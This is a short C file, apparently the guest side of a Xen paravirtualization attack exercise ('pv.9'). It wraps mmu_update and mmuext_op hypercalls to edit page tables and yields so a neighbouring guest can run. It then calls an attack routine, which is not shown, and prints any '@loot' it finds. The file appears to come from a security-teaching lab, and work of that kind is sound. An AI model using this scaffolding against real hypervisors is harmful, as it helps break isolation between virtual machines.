/*
 * The guest of exercise pv.9: it makes what the attack needs, lets the neighbour start, and says
 * what the attack has found.
 */
#include "attack.h"

#include "kit/hypercall.h"
#include "kit/kit.h"
#include "kit/pv.h"

#include <xen/sched.h>

const char guest_name[] = "pv-guest_attack";

u64 *window_table, *page, *empty_page;

enum { YIELDS = 40 };

u64 frame_of_page(const void *p)
{
    return pv_machine((u64)p) >> PAGE_SHIFT;
}

s64 mmuext(unsigned command, u64 mfn, u64 src_mfn)
{
    struct mmuext_op op = {.cmd = command};

    op.arg1.mfn = mfn;
    op.arg2.src_mfn = src_mfn;
    return hypercall4(__HYPERVISOR_mmuext_op, (u64)&op, 1, 0, DOMID_SELF);
}

s64 mmu_update(const u64 *table, unsigned number, u64 entry)
{
    struct mmu_update u = {pv_machine((u64)&table[number]) | MMU_NORMAL_PT_UPDATE, entry};

    return hypercall4(__HYPERVISOR_mmu_update, (u64)&u, 1, 0, DOMID_SELF);
}

void guest_main(void)
{
    u64 found;

    space_entry(&kernel_space, WINDOW, 1, true);
    window_table = (u64 *)platform->entry_pa(*space_entry(&kernel_space, WINDOW, 2, false));
    page = page_alloc_zeroed();
    empty_page = page_alloc_zeroed();
    for (unsigned i = 0; i < YIELDS; i++)
        hypercall2(__HYPERVISOR_sched_op, SCHEDOP_yield, 0);
    found = attack();
    if (found)
        print("@loot %016lx\n", found);
    else
        print("The attack has found nothing.\n");
}
